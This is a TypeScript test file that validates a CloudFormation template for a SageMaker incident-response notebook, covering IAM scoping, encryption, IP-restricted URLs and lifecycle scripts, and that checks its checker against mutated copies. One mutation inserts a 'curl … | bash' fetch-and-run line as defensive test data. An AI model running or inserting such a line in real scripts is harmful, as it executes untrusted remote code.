// kernel-setup/cloudformation/irbook-notebook.yaml, read with CloudFormation's YAML tags and
// checked by cfn-template.ts; the checker itself is tested on broken copies of the template.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  allProblems,
  bucketProblems,
  encryptionProblems,
  identityStatements,
  lifecycleParts,
  lifecycleProblems,
  loadTemplate,
  policyProblems,
  presignedUrlProblems,
  referenceProblems,
  subVariables,
  UNSCOPABLE_ACTIONS,
  type Template,
} from './cfn-template';

const KERNEL_SETUP = join(__dirname, '..', '..', 'kernel-setup');
const TEMPLATE_TEXT = readFileSync(join(KERNEL_SETUP, 'cloudformation', 'irbook-notebook.yaml'), 'utf8');
const FILES = {
  OnCreate: readFileSync(join(KERNEL_SETUP, 'sagemaker', 'on-create.sh'), 'utf8'),
  OnStart: readFileSync(join(KERNEL_SETUP, 'sagemaker', 'on-start.sh'), 'utf8'),
};
const template = () => loadTemplate(TEMPLATE_TEXT);
const t = template();
const statement = (tpl: Template, role: string, sid: string) =>
  tpl.Resources[role].Properties.Policies[0].PolicyDocument.Statement.find((s: { Sid?: string }) => s.Sid === sid);

describe('CloudFormation template: structure', () => {
  it('parses, with the resources the article describes', () => {
    const types = Object.fromEntries(Object.entries(t.Resources).map(([name, r]) => [name, r.Type]));
    expect(types).toMatchObject({
      DataKey: 'AWS::KMS::Key',
      ResultsBucket: 'AWS::S3::Bucket',
      ResultsBucketPolicy: 'AWS::S3::BucketPolicy',
      AthenaWorkGroup: 'AWS::Athena::WorkGroup',
      NotebookRole: 'AWS::IAM::Role',
      NotebookAccessRole: 'AWS::IAM::Role',
      LifecycleConfig: 'AWS::SageMaker::NotebookInstanceLifecycleConfig',
      NotebookInstance: 'AWS::SageMaker::NotebookInstance',
    });
    expect(Object.keys(t.Outputs ?? {})).toEqual(expect.arrayContaining(['ResultsBucketName', 'WorkGroup', 'NotebookRoleArn', 'NotebookUrl']));
  });

  it('every Ref, GetAtt, ${…} in Fn::Sub, condition and DependsOn resolves, and every parameter is used', () => {
    expect(referenceProblems(t)).toEqual([]);
  });

  it('notebook instance: key, root access off by default, real platform identifiers, IMDSv2, optional VPC', () => {
    const nb = t.Resources.NotebookInstance.Properties;
    const p = t.Parameters ?? {};
    expect(p.InstanceType.Default).toBe('ml.t3.medium');
    expect(nb.RootAccess).toEqual({ Ref: 'RootAccess' });
    expect(p.RootAccess.Default).toBe('Disabled');
    expect(nb.PlatformIdentifier).toEqual({ Ref: 'PlatformIdentifier' });
    expect(p.PlatformIdentifier.AllowedValues.sort()).toEqual(['notebook-al2-v3', 'notebook-al2023-v1']);
    expect(nb.VolumeSizeInGB).toEqual({ Ref: 'VolumeSizeInGB' });
    expect(nb.DirectInternetAccess).toEqual({ Ref: 'DirectInternetAccess' });
    expect(nb.InstanceMetadataServiceConfiguration).toEqual({ MinimumInstanceMetadataServiceVersion: '2' });
    expect(nb.SubnetId).toEqual({ 'Fn::If': ['HasSubnet', { Ref: 'SubnetId' }, { Ref: 'AWS::NoValue' }] });
    expect(nb.SecurityGroupIds).toEqual({ 'Fn::If': ['HasSubnet', { Ref: 'SecurityGroupIds' }, { Ref: 'AWS::NoValue' }] });
    // No direct internet access only makes sense in a VPC: a rule stops the stack otherwise.
    expect(JSON.stringify(t.Rules?.NoDirectInternetNeedsSubnet)).toContain('"SubnetId"');
  });

  it('the notebook name is lower case, so the ARN in the access policy matches what SageMaker reports', () => {
    const name = t.Parameters?.NotebookInstanceName;
    const pattern = new RegExp(name.AllowedPattern);
    expect(pattern.test(name.Default)).toBe(true);
    expect(pattern.test('Irbook')).toBe(false);
    // The lifecycle config is named after it and may have 63 characters.
    expect(name.MaxLength + '-irbook'.length).toBeLessThanOrEqual(63);
  });
});

describe('CloudFormation template: security', () => {
  it('identity policies: no wildcard actions, no managed policies, Resource "*" only where an action cannot be scoped', () => {
    expect(policyProblems(t, UNSCOPABLE_ACTIONS)).toEqual([]);
    const starActions = identityStatements(t)
      .filter((s) => s.Resource.includes('*'))
      .flatMap((s) => s.Action);
    expect(starActions.sort()).toEqual(['lakeformation:GetDataAccess', 'sagemaker:ListNotebookInstances', 'sts:GetCallerIdentity']);
    // Each of them carries a comment in the template saying why.
    for (const action of starActions) expect(TEMPLATE_TEXT).toMatch(new RegExp(`#.*${action}.*(no resource|has no resources)`));
  });

  it('the notebook role reads only the named log buckets, databases and tables, and writes only the results bucket', () => {
    const role = t.Resources.NotebookRole.Properties;
    expect(role.AssumeRolePolicyDocument.Statement[0].Principal).toEqual({ Service: 'sagemaker.amazonaws.com' });
    const all = identityStatements(t).filter((s) => s.where.startsWith('NotebookRole/'));
    const writes = all.filter((s) => s.Action.some((a) => /^s3:(Put|Delete|Abort)/.test(a)));
    expect(writes.map((s) => s.Resource)).toEqual([[{ 'Fn::Sub': '${ResultsBucket.Arn}/*' }]]);
    expect(statement(t, 'NotebookRole', 'ReadLogBuckets').Resource).toEqual({ Ref: 'LogBucketArns' });
    expect(JSON.stringify(statement(t, 'NotebookRole', 'ReadLogObjects').Resource)).toContain('"Ref":"LogBucketArns"');
    const glue = JSON.stringify(statement(t, 'NotebookRole', 'GlueCatalogReadLogTables').Resource);
    for (const name of ['GlueDatabaseName', 'SecondGlueDatabaseName', 'GlueTables']) expect(glue).toContain(`\${${name}}`);
    expect(statement(t, 'NotebookRole', 'AthenaQueriesInTheWorkGroup').Resource['Fn::Sub']).toMatch(/:workgroup\/\$\{AthenaWorkGroup\}$/);
    const actions = all.flatMap((s) => s.Action);
    expect(actions).toEqual(expect.arrayContaining(['lakeformation:GetDataAccess', 'sts:GetCallerIdentity', 'logs:PutLogEvents', 'kms:GenerateDataKey']));
    // Read-only on the logs: no IAM, no EC2, no changes outside the results bucket.
    expect(actions.filter((a) => /^(iam|ec2|sagemaker):/.test(a))).toEqual([]);
  });

  it('results bucket: SSE-KMS with the stack key, public access blocked, TLS only, results expire', () => {
    expect(bucketProblems(t)).toEqual([]);
    const rules = t.Resources.ResultsBucket.Properties.LifecycleConfiguration.Rules;
    expect(rules[0].ExpirationInDays).toEqual({ Ref: 'ResultsRetentionDays' });
  });

  it('KMS key rotates; the workgroup enforces SSE-KMS results in the bucket; the notebook volume uses the key', () => {
    expect(encryptionProblems(t)).toEqual([]);
  });

  it('the presigned notebook URL is allowed only from AllowedCidr (aws:SourceIp) and denied from elsewhere', () => {
    expect(presignedUrlProblems(t, 'AllowedCidr')).toEqual([]);
    const pattern = new RegExp(t.Parameters?.AllowedCidr.AllowedPattern);
    expect(['203.0.113.0/24', '10.0.0.0/8', '198.51.100.7/32'].every((c) => pattern.test(c))).toBe(true);
    expect(['203.0.113.0', '203.0.113.0/33', 'any'].some((c) => pattern.test(c))).toBe(false);
  });
});

describe('CloudFormation template: lifecycle configuration', () => {
  it('inlines on-create.sh and on-start.sh unchanged, after a prefix that sets the stack parameters', () => {
    expect(lifecycleProblems(t, FILES)).toEqual([]);
    const prefix = lifecycleParts(t, 'OnStart')?.prefix ?? '';
    expect(subVariables(prefix).filter((v) => !v.startsWith('AWS::'))).toEqual(['RepositoryUrl', 'RepositoryBranch', 'NodeMajorVersion']);
    // The variables the prefix sets are the script's parameters.
    for (const variable of ['IRBOOK_REPO_URL', 'IRBOOK_BRANCH', 'IRBOOK_NODE_MAJOR']) expect(FILES.OnStart).toContain(`${variable}="\${${variable}:-`);
    // The defaults agree.
    expect(FILES.OnStart).toContain(`IRBOOK_REPO_URL:-${t.Parameters?.RepositoryUrl.Default}}`);
    expect(FILES.OnStart).toContain(`IRBOOK_NODE_MAJOR:-${t.Parameters?.NodeMajorVersion.Default}}`);
  });

  it('fits SageMaker\'s limit of 16384 base64 characters per script, with the longest parameter values', () => {
    const p = t.Parameters ?? {};
    const longest: Record<string, string> = {
      'AWS::StackName': 's'.repeat(128),
      RepositoryUrl: `https://${'u'.repeat(p.RepositoryUrl.MaxLength - 8)}`,
      RepositoryBranch: 'b'.repeat(p.RepositoryBranch.MaxLength),
      NodeMajorVersion: '22',
    };
    for (const hook of ['OnCreate', 'OnStart'] as const) {
      const parts = lifecycleParts(t, hook);
      const prefix = (parts?.prefix ?? '').replace(/\$\{([^}]+)\}/g, (_, name: string) => longest[name]);
      expect(prefix).not.toContain('${');
      expect(Buffer.from(prefix + parts?.script).toString('base64').length).toBeLessThanOrEqual(16384);
    }
  });
});

describe('CloudFormation template: the checker catches broken copies', () => {
  type Mutation = [string, (tpl: Template) => void, RegExp];
  const mutations: Mutation[] = [
    ['a wildcard action', (tpl) => statement(tpl, 'NotebookRole', 'ReadLogObjects').Action = 's3:*', /wildcard action "s3:\*"/],
    ['Resource "*" on Athena', (tpl) => (statement(tpl, 'NotebookRole', 'AthenaQueriesInTheWorkGroup').Resource = '*'), /Resource "\*" for athena:StartQueryExecution/],
    ['NotAction', (tpl) => (statement(tpl, 'NotebookRole', 'CallerIdentity').NotAction = 'iam:*'), /NotAction/],
    ['an AWS managed policy', (tpl) => (tpl.Resources.NotebookRole.Properties.ManagedPolicyArns = ['arn:aws:iam::aws:policy/AmazonSageMakerFullAccess']), /managed policies attached/],
    ['a Ref to a missing parameter', (tpl) => (statement(tpl, 'NotebookRole', 'ReadLogBuckets').Resource = { Ref: 'LogBucketArn' }), /Ref LogBucketArn is not/],
    ['an unknown ${…} in a Sub', (tpl) => (tpl.Outputs!.NotebookUrl.Value = { 'Fn::Sub': 'https://${Notebook.NotebookInstanceName}' }), /\$\{Notebook\.NotebookInstanceName\} in Fn::Sub names nothing/],
    ['a GetAtt of a missing resource', (tpl) => (tpl.Resources.NotebookInstance.Properties.RoleArn = { 'Fn::GetAtt': ['Role', 'Arn'] }), /GetAtt of unknown resource Role/],
    ['an unknown condition', (tpl) => (tpl.Resources.NotebookInstance.Properties.SubnetId['Fn::If'][0] = 'HasVpc'), /unknown condition HasVpc/],
    ['an unused parameter', (tpl) => (tpl.Parameters!.Unused = { Type: 'String' }), /Parameters\.Unused is never used/],
    ['a bucket open to public policies', (tpl) => (tpl.Resources.ResultsBucket.Properties.PublicAccessBlockConfiguration.BlockPublicPolicy = false), /BlockPublicPolicy is not true/],
    ['a bucket with S3-managed keys', (tpl) => (tpl.Resources.ResultsBucket.Properties.BucketEncryption.ServerSideEncryptionConfiguration[0].ServerSideEncryptionByDefault = { SSEAlgorithm: 'AES256' }), /not encrypted with SSE-KMS/],
    ['no TLS-only bucket policy', (tpl) => delete tpl.Resources.ResultsBucketPolicy, /no bucket policy denying requests without TLS/],
    ['results that never expire', (tpl) => delete tpl.Resources.ResultsBucket.Properties.LifecycleConfiguration, /no enabled lifecycle rule/],
    ['key rotation off', (tpl) => (tpl.Resources.DataKey.Properties.EnableKeyRotation = false), /key rotation is off/],
    ['a workgroup users can override', (tpl) => (tpl.Resources.AthenaWorkGroup.Properties.WorkGroupConfiguration.EnforceWorkGroupConfiguration = false), /not enforced/],
    ['presigned URL without the IP condition', (tpl) => delete statement(tpl, 'NotebookAccessRole', 'OpenNotebookFromAllowedNetwork').Condition, /without IpAddress aws:SourceIp = Ref AllowedCidr/],
    ['presigned URL on a hard-coded range', (tpl) => (statement(tpl, 'NotebookAccessRole', 'OpenNotebookFromAllowedNetwork').Condition.IpAddress['aws:SourceIp'] = '0.0.0.0/0'), /without IpAddress/],
    ['no explicit deny from other networks', (tpl) => (statement(tpl, 'NotebookAccessRole', 'DenyOpenNotebookFromElsewhere').Effect = 'Allow'), /no Deny of sagemaker:CreatePresignedNotebookInstanceUrl/],
    ['an edited inline script', (tpl) => {
      const join = tpl.Resources.LifecycleConfig.Properties.OnStart[0].Content['Fn::Base64']['Fn::Join'];
      join[1][1] = join[1][1].replace('flock -n 9', 'true');
    }, /OnStart: the inlined script differs/],
    ['a prefix line that is not a validated parameter', (tpl) => {
      const join = tpl.Resources.LifecycleConfig.Properties.OnCreate[0].Content['Fn::Base64']['Fn::Join'];
      join[1][0]['Fn::Sub'] += 'curl https://example.com/x | bash\n';
    }, /OnCreate: prefix line "curl/],
    ['a notebook without the lifecycle configuration', (tpl) => delete tpl.Resources.NotebookInstance.Properties.LifecycleConfigName, /does not use the lifecycle configuration/],
  ];

  it.each(mutations)('flags %s', (_, mutate, expected) => {
    const broken = template();
    mutate(broken);
    const problems = allProblems(broken, FILES);
    expect(problems.join('\n')).toMatch(expected);
  });

  it('finds nothing wrong with the template as committed', () => {
    expect(allProblems(t, FILES)).toEqual([]);
  });

  it('reads the YAML short forms the way CloudFormation does', () => {
    const parsed = loadTemplate(
      ['A: !GetAtt Res.Arn', 'B: !Sub "x-${AWS::Region}"', 'C: !If [Cond, !Ref P, !Ref "AWS::NoValue"]', 'D: !Base64 {"Fn::Join": ["", [a, b]]}', 'E: !Select [0, !Split [",", !Ref L]]'].join('\n'),
    ) as unknown as Record<string, unknown>;
    expect(parsed).toEqual({
      A: { 'Fn::GetAtt': ['Res', 'Arn'] },
      B: { 'Fn::Sub': 'x-${AWS::Region}' },
      C: { 'Fn::If': ['Cond', { Ref: 'P' }, { Ref: 'AWS::NoValue' }] },
      D: { 'Fn::Base64': { 'Fn::Join': ['', ['a', 'b']] } },
      E: { 'Fn::Select': [0, { 'Fn::Split': [',', { Ref: 'L' }] }] },
    });
  });
});
